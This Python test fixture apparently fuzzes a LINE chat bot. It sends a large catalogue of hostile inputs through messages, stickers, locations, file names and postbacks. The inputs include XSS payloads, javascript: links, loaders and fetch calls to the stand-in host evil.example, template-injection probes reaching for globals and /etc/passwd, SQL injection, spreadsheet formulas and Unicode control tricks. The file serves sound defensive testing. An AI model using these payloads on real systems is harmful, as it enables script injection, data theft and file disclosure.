"""What somebody may plant in words, sticker names, places and file names: two hundred and more."""

from collections.abc import Iterator
from itertools import product
from typing import Final

from tests.machinery.evening import Evening

_ACTS: Final = (
    "alert(1)",
    "top.planted=1",
    "fetch('https://evil.example/')",
    "import('//evil.example/x')",
)
_HANDLERS: Final = (
    '<img src=x onerror="{}">',
    "<img/src=`x`/onerror={}>",
    '<svg onload="{}">',
    "<svg/onload={}//",
    '<body onload="{}">',
    '<details open ontoggle="{}"><summary>x</summary></details>',
    '<input autofocus onfocus="{}">',
    '<video src=x onerror="{}"></video>',
    '<a href="#" onmouseover="{}">x</a>',
    '<marquee onstart="{}">x</marquee>',
    '"><img src=x onerror="{}">',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    '<math><mtext><img src=x onerror="{}"></mtext></math>',
    '<b style="animation-name:x" onanimationstart="{}">x</b>',
)
_SCRIPTS: Final = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script><!--{}-->",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)
_LINKS: Final = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "<a href='javascript:{}'>x</a>",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "[x](javascript:{})",
    "<form action='javascript:{}'><button>x</button></form>",
    "<base href='https://evil.example/'>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_LOADERS: Final = (
    "<img src=https://evil.example/1.png>",
    "<link rel=stylesheet href=https://evil.example/1.css>",
    "<style>@import 'https://evil.example/2.css';</style>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<audio src=https://evil.example/1.ogg autoplay></audio>",
    "<video poster=https://evil.example/1.png>",
    "<form action=https://evil.example><input name=x><button>x</button></form>",
    "<div style='background:url(https://evil.example/3.png)'>x</div>",
    "<svg><use href=https://evil.example/x.svg#x /></svg>",
    "<link rel=prefetch href=https://evil.example>",
    "<link rel=manifest href=https://evil.example/m>",
    "https://evil.example/見て",
    "//evil.example",
    "![x](https://evil.example/4.png)",
)
_TEMPLATES: Final = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__ }}",
    "%(n)s %s %d",
    "{0} {name}",
    "{{ request.application.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{# 見えない #}",
    "%%",
    "@{7*7}",
    "[[7*7]]",
    "*{7*7}",
)
_SIGNS: Final = (
    "\u202e右から左へ\u202c",
    "\u2066囲い\u2069",
    "\u200bゼロ幅\u200b",
    "\ufeff印",
    "a\u0300\u0301\u0302" * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467👨🏿\u200d🚀🏳\ufe0f\u200d🌈",
    "🇯🇵" * 30,
    "\U000e0041",
    "مرحبا <b>بك</b>",
    "שלום",
    "﷽",
    "ﾊﾝｶｸ",
    "Ⅷ㌔㍿",
    "𠮷野家の髙橋﨑",
    "前\r\n後\rまた\n次",
    "\tタブ\t",
    "  前後の空白  ",
    "&lt;script&gt;",
    "&amp;amp;",
    "&#60;b&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "<!-- 見えない -->",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "]]>",
    "'\"`<>&\\/",
    "' OR 1=1 --",
    "\x1b[31m赤\x1b[0m",
    "\u2028行\u2029段",
    "=1+1",
    "@SUM(A1)",
    "null",
    "undefined",
)
_LONG: Final = ("あ" * 5000, "<b>" * 1600, "a" * 4990, "\n".join("行" for _ in range(800)))

WORDS: Final[tuple[str, ...]] = (
    *(form.format(act) for form, act in product((*_HANDLERS, *_SCRIPTS, *_LINKS), _ACTS)),
    *_LOADERS,
    *_TEMPLATES,
    *_SIGNS,
    *_LONG,
)
"""Everything that is written as words."""


def events(evening: Evening, person: str) -> Iterator[dict[str, object]]:
    """All of it as words; some of it wherever else LINE lets a person put words."""
    for words in WORDS:
        yield evening.text(words, person)
    for number, words in enumerate(WORDS[:: len(WORDS) // 12]):
        short = words[:100]
        for place, message in enumerate(_messages(short)):
            message_id = f"8{number:08d}{place:08d}"
            yield evening.event("message", person, message={"id": message_id, **message})
        yield evening.event("postback", person, postback={"data": short, "params": {"date": short}})


def _messages(words: str) -> Iterator[dict[str, object]]:
    sticker = {"type": "sticker", "packageId": "1", "stickerId": "2", "quoteToken": "q"}
    yield {**sticker, "stickerResourceType": "STATIC", "keywords": [words, words]}
    yield {**sticker, "stickerResourceType": "MESSAGE", "text": words}
    yield {"type": "location", "title": words, "address": words, "latitude": 35, "longitude": 139}
    yield {"type": "file", "fileName": words, "fileSize": 1}
    yield {
        "type": "image",
        "quoteToken": "q",
        "contentProvider": {"type": "external", "originalContentUrl": "https://evil.example/1.png"},
    }
